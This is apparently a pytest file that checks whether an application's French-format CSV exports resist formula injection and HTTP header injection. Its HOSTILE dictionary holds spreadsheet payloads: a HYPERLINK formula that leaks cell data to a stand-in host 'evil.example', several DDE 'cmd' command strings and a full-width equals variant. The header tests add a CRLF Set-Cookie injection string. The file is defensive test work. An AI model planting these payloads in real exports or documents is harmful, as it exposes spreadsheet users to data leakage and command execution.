"""Every CSV Relais writes, read as an attacker: hostile text in every field that reaches a CSV
(feedback from an agent, directory names from the admin's import), then every cell of every CSV
response is checked: no cell may start a formula, embedded separators and line breaks stay in
their cell, and the files open in a French spreadsheet (`;`, decimal comma, UTF-8 with a BOM)."""
from __future__ import annotations

import csv
import io
import pathlib
import re

import pytest

from chalicelib.domain import results as domain
from chalicelib.domain.authz import Principal
from chalicelib.domain.commands import ExperienceModeration, ExperiencePost
from chalicelib.domain.models import Role
from chalicelib.services import experiences
from tests.clock import TUESDAY_MORNING
from tests.conftest import CASE, login, post_json

pytestmark = [pytest.mark.outbox, pytest.mark.instant(TUESDAY_MORNING)]
AGENT = "agent.bretoncelles@example.org"
COORDINATOR = "coordination.61@example.org"

# Written here, not imported from the writer: the test must not share the code it checks.
FORMULA_STARTS = set("=+-@\t\r\n") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}
NUMBER = re.compile(r"^-?\d+(,\d+)?$")          # a figure Relais computed, written as a number
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
HOSTILE = {
    "point": HYPERLINK,
    "other_point": "@Rémalard",
    "group": '-2+3;=1+1\n=2+2 "quoted"',
    "caf_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "caf_short": "+cmd|' /C calc'!A0",
    "cpam_name": "\uff1dcmd|' /C notepad'!A0",   # full-width "=" (a leading tab or CR is stripped
    "cpam_short": "=cmd()",                       # when the name is read: see the unit test)
    "topic": HYPERLINK.replace("Cliquez", "Formation"),
    "procedure": 'Complémentaire; =1+1, "santé"\n@x',
    "experience": '=HYPERLINK("http://evil.example/?leak="&A1,"Mon dossier CAF attend depuis un mois")',
}
CSV_ROUTES = {"/resultats/donnees.csv", "/territoire/rapport.csv", "/experiences/donnees.csv"}
MODERATOR = Principal("moderateur-61", Role.MODERATOR, territory_codes=frozenset({"61"}))


def hostile_world(client, deps, cpam: bool = False) -> None:
    """Five escalations to the CAF (so the group is among the slowest), a difficulty and a
    training request by an agent, then hostile names in the directory. With `cpam`, a sixth to
    the CAF and five to the CPAM, so that the CAF network's figures are published (with the CAF
    alone, national minus CAF would tell the others had none: domain/disclosure.py)."""
    agent = login(client, AGENT)
    for number in range(11 if cpam else 5):
        usager = {**CASE["usager"], "phone": f"06 12 34 58 {number:02d}"}
        ref = post_json(client, agent, "/api/cases", {**CASE, "usager": usager})["ref"]
        group = "61-caf" if number < (6 if cpam else 5) else "61-cpam"
        post_json(client, agent, f"/api/cases/{ref}/escalations", {"group_ids": [group], "question": "?"})
    post_json(client, agent, "/api/feedback", {
        "kind": "difficulty", "organisation_id": "cpam", "procedure": HOSTILE["procedure"],
        "problem": "Le formulaire refuse les dossiers.", "usagers_affected": 3})
    post_json(client, agent, "/api/feedback", {"kind": "training", "topic": HOSTILE["topic"]})
    post_json(client, login(client, "agent.remalard@example.org"), "/api/cases",
              {**CASE, "point_id": "61-mairie-remalard"})
    # An experience about the CAF, published: the open data writes its procedure, its text and
    # the organisation's (hostile) short name.
    posted = experiences.post_public(deps, ExperiencePost(
        territory_code="61", organisation_id="caf", procedure=HOSTILE["procedure"], situation="precarite",
        sentiment="negative", text=HOSTILE["experience"]), client_address="198.51.100.7")
    experiences.moderate(deps, MODERATOR, posted.id, ExperienceModeration(decision="publish"))
    organisations = {o.id: o for o in deps.repo.list_organisations()}
    # model_copy does not validate: the names are stored exactly as a careless import could.
    deps.repo.put_directory([
        deps.repo.get_point("61-mairie-bretoncelles").model_copy(update={"name": HOSTILE["point"]}),
        deps.repo.get_point("61-mairie-remalard").model_copy(update={"name": HOSTILE["other_point"]}),
        deps.repo.get_group("61-caf").model_copy(update={"name": HOSTILE["group"]}),
        organisations["caf"].model_copy(update={"name": HOSTILE["caf_name"], "short_name": HOSTILE["caf_short"]}),
        organisations["cpam"].model_copy(update={"name": HOSTILE["cpam_name"], "short_name": HOSTILE["cpam_short"]}),
    ])


def csv_responses(client, deps) -> dict[str, object]:
    period = domain.quarter(deps.now())
    coordinator = {"Cookie": login(client, COORDINATOR)["Cookie"]}
    paths = {f"/resultats/donnees.csv?periode={period}&niveau={level}{'&territoire=61' if level == 'point' else ''}": {}
             for level in ("point", "territoire", "reseau", "national")}
    paths[f"/territoire/rapport.csv?trimestre={period}&code=61"] = coordinator
    paths[f"/experiences/donnees.csv?periode={period}"] = {}
    return {path: client.http.get(path, headers=headers) for path, headers in paths.items()}


def cells(response) -> list[list[str]]:
    body = response.body.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))


def test_every_csv_route_is_checked_here():
    import app as relais

    assert {path for path in relais.app.routes if path.endswith(".csv")} == CSV_ROUTES


def test_no_module_writes_a_csv_but_the_shared_writer():
    root = pathlib.Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(|['\"]text/csv;")
    bypassing = [str(path.relative_to(root)) for path in [root / "app.py", *(root / "chalicelib").rglob("*.py")]
                 if path.name != "csv_out.py" and writers.search(path.read_text(encoding="utf-8"))]
    assert bypassing == []


def test_no_cell_of_any_csv_can_start_a_formula(client, deps):
    hostile_world(client, deps)
    responses = csv_responses(client, deps)
    assert {path.split("?")[0] for path in responses} == CSV_ROUTES
    seen: set[str] = set()
    for path, response in responses.items():
        assert response.status_code == 200, path
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        for row in cells(response):
            for value in row:
                seen.add(value)
                if NUMBER.match(value):
                    continue
                assert value[:1] not in FORMULA_STARTS and value.lstrip()[:1] not in FORMULA_STARTS, (path, value)
    # the hostile values did reach the files, as text, each whole in its own cell
    for name in ("point", "other_point", "group", "caf_short", "topic", "experience"):
        assert "'" + HOSTILE[name] in seen, name
    assert any(value.startswith("'" + HOSTILE["cpam_name"]) and value.endswith(HOSTILE["procedure"])
               for value in seen)
    assert any(value.startswith('Complémentaire; =1+1, "santé"') for value in seen)   # the experience's


def test_the_csv_files_open_in_a_french_spreadsheet(client, deps):
    hostile_world(client, deps, cpam=True)
    period = domain.quarter(deps.now())
    response = client.http.get(f"/resultats/donnees.csv?periode={period}&niveau=reseau")
    header, *rows = cells(response)
    assert header[:4] == ["periode", "niveau", "code", "nom"]
    caf = dict(zip(header, next(row for row in rows if row[2] == "caf"), strict=True))
    assert caf["saisines"] == "6" and caf["taux_reponse_dans_le_delai"] == "0,0"   # decimal comma
    assert response.body.startswith(b"\xef\xbb\xbf" + b'"periode";"niveau"')       # BOM, `;`, quoted
    data = client.http.get(f"/resultats/donnees.json?periode={period}&niveau=reseau").json_body
    [caf_json] = [row for row in data["lignes"] if row["code"] == "caf"]
    assert caf_json["taux_reponse_dans_le_delai"] == 0.0 and caf_json["nom"] == HOSTILE["caf_short"]  # JSON: as is


def test_the_shared_writer_neutralises_text_and_keeps_numbers():
    from chalicelib.adapters import csv_out

    text = csv_out.render([["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "texte", -20.5, 87.5, 12, None, "a;b\"c\nd"]])
    [row] = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert row == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "' =1", "texte", "-20,5", "87,5", "12", "",
                   "a;b\"c\nd"]
    assert csv_out.filename('a"; filename=x.exe\r\nSet-Cookie: y') == "a_filename_x.exe_Set-Cookie_y.csv"


def test_the_export_headers_hold(client, deps):
    """Held before this review, kept: personal or internal exports are never cached, download
    names are built from validated values only, and a hostile territory code is a 404."""
    hostile_world(client, deps)
    period = domain.quarter(deps.now())
    coordinator = {"Cookie": login(client, COORDINATOR)["Cookie"]}
    report = client.http.get(f"/territoire/rapport.csv?trimestre={period}&code=61", headers=coordinator)
    assert report.headers["Cache-Control"] == "no-store"
    assert report.headers["Content-Disposition"] == f'attachment; filename="relais-rapport-61-{period}.csv"'
    injected = client.http.get('/territoire/rapport.csv?code=61%22%0D%0ASet-Cookie:%20x=1', headers=coordinator)
    assert injected.status_code == 404 and "Content-Disposition" not in injected.headers
    public = client.http.get(f"/resultats/donnees.csv?periode={period}&niveau=point&territoire=61")
    assert public.headers["Cache-Control"] == "public, max-age=3600"           # open data, no cookie read
    assert public.headers["Content-Disposition"] == f'attachment; filename="relais-resultats-{period}-point-61.csv"'
    assert "Set-Cookie" not in public.headers
    admin = login(client, "admin@example.org")
    exported = client.http.post("/api/admin/usager-export", headers={**admin, "Content-Type": "application/json"},
                                body='{"phone": "06 12 34 58 00"}')
    assert exported.status_code == 200 and exported.json_body["cases"]
    assert exported.headers["Cache-Control"] == "no-store"
    assert exported.headers["Content-Type"].startswith("application/json")
    assert "reply_token" not in exported.body.decode()
